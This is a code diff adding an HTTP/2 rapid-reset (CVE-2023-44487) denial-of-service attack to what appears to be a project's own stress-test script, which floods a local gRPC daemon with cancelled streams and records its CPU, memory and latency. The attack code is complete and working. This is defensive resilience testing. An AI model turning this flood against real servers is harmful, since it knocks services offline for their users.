@@ -4,14 +4,20 @@ daemon's memory (VmRSS, and the peak VmHWM since just before the attack).
 
     python scripts/attack.py [--seconds 10] [--only NAME ...] [--llm] [--json PATH]
 
-Availability attacks (slot-stall, non-reading, grpc-empty-uploads, slow-loris, idle-flood)
-run for --seconds while a prober, in a process of its own, makes sequential normal calls
-(a small JSON POST /predict, then a gRPC Predict, each on a new connection) to an echoing
-model; its p50/p99 are compared with the same prober run unloaded just before, against the
-same daemon. The target is a p99 within 2x. These daemons run with short timeouts
-(--timeout, for runtime.idle_timeout_s, body_idle_timeout_s and write_timeout_s), so the
-attacks meet them within the run; the configs are printed. Attackers that the daemon cuts
-off come back at once, for as long as the attack lasts.
+Availability attacks (slot-stall, non-reading, grpc-empty-uploads, slow-loris, idle-flood,
+rapid-reset) run for --seconds while a prober, in a process of its own, makes sequential
+normal calls (a small JSON POST /predict, then a gRPC Predict, each on a new connection) to
+an echoing model; its p50/p99 are compared with the same prober run unloaded just before,
+against the same daemon. The target is a p99 within 2x. These daemons run with short
+timeouts (--timeout, for runtime.idle_timeout_s, body_idle_timeout_s and write_timeout_s),
+so the attacks meet them within the run; the configs are printed. Attackers that the daemon
+cuts off come back at once, for as long as the attack lasts.
+
+rapid-reset (HTTP/2 rapid reset, CVE-2023-44487) first runs --reset-rounds rounds of
+--reset-streams HEADERS + RST_STREAM(CANCEL) pairs alone against the gRPC port, on one
+connection while the daemon keeps it, and prints per round the daemon's CPU seconds (until it
+is idle again), the GOAWAYs and RST_STREAMs it sent, and RSS; then rounds go on, back to back,
+while the prober runs.
 
 Memory attacks (dense-json, big-json, gzip-bomb, unauth-grpc) each get a fresh daemon with
 the default limits; its peak is reset (/proc/PID/clear_refs) just before the attack, so the
@@ -58,6 +64,11 @@ os.environ.setdefault("GRPC_VERBOSITY", "ERROR")
 
 import grpc  # noqa: E402
 import grpc.aio  # noqa: E402
+import h2.config  # noqa: E402
+import h2.connection  # noqa: E402
+import h2.errors  # noqa: E402
+import h2.events  # noqa: E402
+import h2.exceptions  # noqa: E402
 from grpc_health.v1 import health_pb2  # noqa: E402
 
 from tests.harness import EXAMPLES, MODELS, DaemonProcess, copy_model  # noqa: E402
@@ -82,7 +93,8 @@ PROBE_TIMEOUT_S = 10.0  # a prober call waiting longer counts as failed
 RATIO_TARGET = 2.0
 WRITE_TIMEOUTS = 'twinserve_cancellations_total{reason="write_timeout"}'
 
-AVAILABILITY = ["slot-stall", "non-reading", "grpc-empty-uploads", "slow-loris", "idle-flood"]
+AVAILABILITY = ["slot-stall", "non-reading", "grpc-empty-uploads", "slow-loris", "idle-flood",
+                "rapid-reset"]
 MEMORY = ["dense-json", "big-json", "gzip-bomb", "unauth-grpc"]
 INPUT = ["secrets", "malformed", "llm"]
 ALL = AVAILABILITY + MEMORY + INPUT
@@ -848,6 +860,250 @@ def idle_flood(http_port: int, grpc_port: int, idle_timeout_s: float,
     return attack
 
 
+# -- 6. rapid-reset ---------------------------------------------------------------------------
+
+# A valid, authenticated gRPC Predict call's HEADERS (no END_STREAM: its message would follow).
+RESET_HEADERS = [(b":method", b"POST"), (b":scheme", b"http"),
+                 (b":path", service.method_path(service.PREDICT).encode()),
+                 (b":authority", b"127.0.0.1"), (b"content-type", b"application/grpc"),
+                 (b"te", b"trailers"), (b"authorization", f"Bearer {KEY}".encode())]
+RESET_BATCH = 200  # streams encoded per write
+
+
+def h2_code(code: int | None) -> str:
+    if code is None:
+        return "no code"
+    try:
+        return h2.errors.ErrorCodes(code).name
+    except ValueError:
+        return f"code {code}"
+
+
+@dataclass
+class ResetTally:
+    """What the daemon did with a run of HEADERS + RST_STREAM(CANCEL) pairs."""
+    sent: int = 0
+    connections: int = 0
+    resets: collections.Counter[str] = field(default_factory=collections.Counter)  # by code
+    goaways: list[str] = field(default_factory=list)  # code, when, last stream it took
+    ended: list[str] = field(default_factory=list)  # connections the daemon ended, and when
+    pings: int = 0  # PINGs from the daemon (answered)
+    errors: collections.Counter[str] = field(default_factory=collections.Counter)
+
+    def text(self) -> str:
+        resets = ", ".join(f"{n} {code}" for code, n in self.resets.most_common())
+        errors = ", ".join(f"{n} {name}" for name, n in self.errors.most_common())
+        return (f"{self.sent} streams on {self.connections} connection(s); GOAWAY: "
+                f"{'; '.join(self.goaways) or 'none'}; connections ended by the daemon: "
+                f"{'; '.join(self.ended[:3]) or 'none'}{' ...' if len(self.ended) > 3 else ''}"
+                f"; RST_STREAM from the daemon: {resets or 'none'}; {self.pings} PINGs"
+                + (f"; errors: {errors}" if errors else ""))
+
+
+class ResetConnection:
+    """One HTTP/2 connection to the gRPC port that opens streams and cancels each at once,
+    answering what the daemon sends (SETTINGS, PING) as a client library would."""
+
+    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter,
+                 tally: ResetTally) -> None:
+        self._reader = reader
+        self._writer = writer
+        self._tally = tally
+        self._conn = h2.connection.H2Connection(h2.config.H2Configuration(
+            client_side=True, header_encoding=None, validate_outbound_headers=False,
+            normalize_outbound_headers=False, validate_inbound_headers=False))
+        self._conn.initiate_connection()
+        self._writer.write(self._conn.data_to_send())
+        self._acked = asyncio.Event()
+        self._settings = asyncio.Event()
+        self._frames = bytearray()  # the start of a frame from the daemon not yet whole
+        self.sent = 0
+        self.ended = False  # GOAWAY came, or the daemon closed the connection
+        self._reading = asyncio.create_task(self._read())
+
+    @classmethod
+    async def open(cls, port: int, tally: ResetTally) -> ResetConnection:
+        reader, writer = await asyncio.open_connection("127.0.0.1", port)
+        tally.connections += 1
+        connection = cls(reader, writer, tally)
+        try:  # the daemon's SETTINGS, acknowledged: it refuses streams sent before that
+            async with asyncio.timeout(10):
+                await connection._settings.wait()
+        except TimeoutError:
+            tally.errors["no SETTINGS in 10 s"] += 1
+        return connection
+
+    async def _read(self) -> None:
+        how = "closed"
+        try:
+            while not self.ended and (data := await self._reader.read(256 * 1024)):
+                self._scan(data)
+                for event in self._conn.receive_data(data):
+                    self._note(event)
+                if out := self._conn.data_to_send():
+                    self._writer.write(out)
+        except ConnectionResetError:
+            how = "reset"
+        except (OSError, h2.exceptions.H2Error) as exc:
+            self._tally.errors[f"read {type(exc).__name__}"] += 1
+        finally:
+            if not self.ended:  # not by this side, nor after a GOAWAY (counted there)
+                self._tally.ended.append(f"{how} after {self.sent} streams")
+            self.ended = True
+            self._acked.set()
+            self._settings.set()
+
+    def _scan(self, data: bytes) -> None:
+        """Count the daemon's RST_STREAM frames by code: h2 passes on none for a stream this
+        side has reset already, which is every stream here."""
+        frames = self._frames
+        frames += data
+        at = 0
+        while len(frames) - at >= 9:
+            length = int.from_bytes(frames[at:at + 3], "big")
+            if len(frames) - at < 9 + length:
+                break
+            if frames[at + 3] == 3 and length == 4:
+                code = int.from_bytes(frames[at + 9:at + 13], "big")
+                self._tally.resets[h2_code(code)] += 1
+            at += 9 + length
+        del frames[:at]
+
+    def _note(self, event: h2.events.Event) -> None:
+        if isinstance(event, h2.events.ConnectionTerminated):
+            taken = event.last_stream_id or 0
+            self._tally.goaways.append(
+                f"{h2_code(event.error_code)} after {self.sent} streams on the connection, "
+                f"{self._tally.sent} in all (last stream taken {taken})"
+                + (f" {event.additional_data[:80]!r}" if event.additional_data else ""))
+            self.ended = True
+        elif isinstance(event, h2.events.RemoteSettingsChanged):
+            self._settings.set()
+        elif isinstance(event, h2.events.PingReceived):
+            self._tally.pings += 1
+        elif isinstance(event, h2.events.PingAckReceived):
+            self._acked.set()
+
+    async def send(self, count: int, stop: Callable[[], bool] = lambda: False) -> int:
+        """Open and cancel up to `count` streams; how many went out before the connection
+        ended (or `stop()`)."""
+        conn, done = self._conn, 0
+        while done < count and not self.ended and not stop():
+            batch = min(RESET_BATCH, count - done)
+            try:
+                for _ in range(batch):
+                    stream_id = conn.get_next_available_stream_id()
+                    conn.send_headers(stream_id, RESET_HEADERS)
+                    conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
+                self._writer.write(conn.data_to_send())
+                await self._writer.drain()
+                await asyncio.sleep(0)  # drain() need not yield: let the reader answer
+            except (OSError, h2.exceptions.H2Error) as exc:
+                if not self.ended:
+                    self._tally.ended.append(f"{type(exc).__name__} on sending after "
+                                             f"{self.sent} streams")
+                self.ended = True
+                break
+            done += batch
+            self.sent += batch
+            self._tally.sent += batch
+        return done
+
+    async def settle(self, timeout: float = 30.0) -> bool:
+        """A PING round trip: true once the daemon has read everything sent before it."""
+        if self.ended:
+            return False
+        self._acked.clear()
+        self._conn.ping(b"settled!")
+        self._writer.write(self._conn.data_to_send())
+        try:
+            async with asyncio.timeout(timeout):
+                await self._acked.wait()
+        except TimeoutError:
+            return False
+        return not self.ended
+
+    async def close(self) -> None:
+        self.ended = True
+        self._writer.close()
+        self._reading.cancel()
+        await asyncio.gather(self._reading, return_exceptions=True)
+
+
+async def reset_streams(port: int, count: int, tally: ResetTally,
+                        stop: Callable[[], bool] = lambda: False) -> None:
+    """`count` HEADERS + RST_STREAM pairs (counted in `tally`), on one connection while the
+    daemon keeps it, then on a new one, as an attacker would."""
+    sent = 0
+    connection: ResetConnection | None = None
+    try:
+        while sent < count and not stop():
+            if connection is None or connection.ended:
+                if connection is not None:
+                    await connection.close()
+                    if connection.sent == 0:  # refused at once: do not spin
+                        await asyncio.sleep(0.1)
+                connection = await ResetConnection.open(port, tally)
+            sent += await connection.send(count - sent, stop)
+        if connection is not None and not connection.ended and not await connection.settle():
+            tally.errors["no PING ACK after the round"] += 1
+    finally:
+        if connection is not None:
+            await connection.close()
+
+
+def settle_cpu(pid: int, idle_cores: float = 0.05, limit_s: float = 60.0) -> float:
+    """Wait until the daemon's CPU use falls to `idle_cores`; the seconds waited."""
+    started = time.monotonic()
+    last = cpu_seconds(pid)
+    quiet = 0
+    while quiet < 2 and time.monotonic() - started < limit_s:
+        time.sleep(0.25)
+        now = cpu_seconds(pid)
+        quiet = quiet + 1 if now - last < idle_cores * 0.25 else 0
+        last = now
+    return time.monotonic() - started
+
+
+def reset_rounds(daemon: DaemonProcess, rounds: int, streams: int) -> list[dict[str, Any]]:
+    """`rounds` rounds of `streams` pairs, one after the other, nothing else running: the
+    daemon CPU each cost, counted until the daemon was idle again."""
+    pid = daemon.proc.pid
+    settle_cpu(pid)
+    results = []
+    for number in range(1, rounds + 1):
+        cpu, started = cpu_seconds(pid), time.monotonic()
+        tally = ResetTally()
+        asyncio.run(reset_streams(daemon.grpc_port, streams, tally))
+        sending_s = time.monotonic() - started
+        settle_s = settle_cpu(pid)
+        used = cpu_seconds(pid) - cpu
+        print(f"    round {number}: daemon CPU {used:.2f} s ({sending_s:.1f} s sending, "
+              f"{settle_s:.1f} s to idle); {tally.text()}", flush=True)
+        results.append({"round": number, "streams": tally.sent, "daemon_cpu_s": used,
+                        "sending_s": sending_s, "settle_s": settle_s,
+                        "connections": tally.connections, "goaways": tally.goaways,
+                        "ended": tally.ended, "resets": dict(tally.resets),
+                        "pings": tally.pings, "errors": dict(tally.errors)})
+    return results
+
+
+def rapid_reset(port: int, streams: int) -> AttackFn:
+    """Rounds of `streams` HEADERS + RST_STREAM(CANCEL) pairs, back to back, until stopped."""
+    async def attack(control: Control) -> Outcome:
+        tally = ResetTally()
+        control.ready.set()
+        while not control.stop.is_set():
+            await reset_streams(port, streams, tally, control.stop.is_set)
+        return Outcome(tally.text(), not tally.errors,
+                       {"streams": tally.sent, "connections": tally.connections,
+                        "goaways": tally.goaways, "ended": tally.ended,
+                        "resets": dict(tally.resets), "pings": tally.pings,
+                        "errors": dict(tally.errors)})
+
+    return attack
+
+
 # -- availability: baseline, attack, probe ----------------------------------------------------
 
 
@@ -895,6 +1151,27 @@ def availability(name: str, daemon: DaemonProcess, attack: AttackFn, args: argpa
                       "rss_before_mib": before.rss_mib, "rss_after_mib": after_mem.rss_mib,
                       "peak_mib": after_mem.hwm_mib, "daemon_cpu_cores": daemon_cpu,
                       "attacker_cpu_cores": attacker_cpu, "prober_cpu_cores": prober_cpu})
+
+
+def rapid_reset_run(daemon: DaemonProcess, args: argparse.Namespace) -> Result:
+    """The rounds alone, for what each costs the daemon; then the prober during more."""
+    rounds, streams = args.reset_rounds, args.reset_streams
+    print(f"\n[rapid-reset] {rounds} rounds of {streams} HEADERS + RST_STREAM(CANCEL) pairs "
+          f"(Predict, with the key), nothing else running", flush=True)
+    before = reset_peak(daemon.proc.pid)
+    measured = reset_rounds(daemon, rounds, streams)
+    after = memory(daemon.proc.pid)
+    print(f"    RSS {before.rss_mib:.0f} -> {after.rss_mib:.0f} MiB, peak "
+          f"{after.hwm_mib:.0f} MiB", flush=True)
+    result = availability("rapid-reset", daemon, rapid_reset(daemon.grpc_port, streams), args)
+    cpu = ", ".join(f"{r['daemon_cpu_s']:.2f}" for r in measured)
+    goaways = sum(len(r["goaways"]) for r in measured)
+    result.client = (f"{rounds} x {streams} streams alone: daemon CPU s per round {cpu}, "
+                     f"{goaways} GOAWAY; RSS {before.rss_mib:.0f} -> {after.rss_mib:.0f} MiB; "
+                     f"under the prober: {result.client}")
+    result.details.update(rounds=measured, rounds_rss_before_mib=before.rss_mib,
+                          rounds_rss_after_mib=after.rss_mib, rounds_peak_mib=after.hwm_mib)
+    return result
 
 
 # -- memory attacks ---------------------------------------------------------------------------
@@ -1326,6 +1603,8 @@ def run_attacks(args: argparse.Namespace, root: Path, findings: Findings) -> lis
             results.append(availability("idle-flood", echo, idle_flood(
                 echo.http_port, echo.grpc_port, args.timeout), args,
                 "; all closed within idle_timeout_s + 1s"))
+        if "rapid-reset" in selected:
+            results.append(rapid_reset_run(daemons.get("echo"), args))
         daemons.check_all()
 
         echo_src, defaults = EXAMPLES / "echo", "model_name: {}\nserver:\n  access_log: false\n"
@@ -1408,6 +1687,10 @@ def main() -> int:
                         help="idle, body-idle and write timeouts of the availability daemons")
     parser.add_argument("--only", nargs="+", choices=ALL, metavar="NAME",
                         help=f"run only these attacks: {', '.join(ALL)}")
+    parser.add_argument("--reset-rounds", type=int, default=3,
+                        help="rapid-reset: rounds measured alone, before the probed run")
+    parser.add_argument("--reset-streams", type=int, default=20000,
+                        help="rapid-reset: HEADERS + RST_STREAM pairs per round")
     parser.add_argument("--llm", action="store_true", help="also attack the embedded model")
     parser.add_argument("--json", type=Path, metavar="PATH", help="write all results here")
     parser.add_argument("--probe", nargs=3, help=argparse.SUPPRESS)
